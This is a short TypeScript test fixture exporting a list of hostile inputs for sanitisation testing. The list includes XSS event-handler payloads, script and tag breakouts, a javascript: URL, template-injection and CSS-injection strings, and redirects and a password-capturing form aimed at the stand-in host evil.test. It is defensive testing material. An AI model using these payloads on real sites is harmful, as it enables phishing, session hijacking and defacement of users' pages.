/** What a brand, or whoever took over its account, might enter anywhere. */
export const HOSTILE = [
  '<img src=x onerror="top.stolen = 1; parent.stolen = 1">',
  '"><script>top.location = "https://evil.test"; parent.stolen = 1</script>',
  '</script></style></textarea></title></iframe><svg onload="parent.stolen = 1">',
  '<style>* { display: none !important } @import "https://evil.test/x.css";</style>',
  '<form action="https://evil.test"><input name="password">',
  'javascript:parent.stolen = 1',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  '<a href="https://evil.test" target="_top" autofocus onfocus="parent.stolen = 1" tabindex="1">Free</a>',
  '{{constructor.constructor("parent.stolen = 1")()}}',
  'red;background:url(https://evil.test)',
] as const
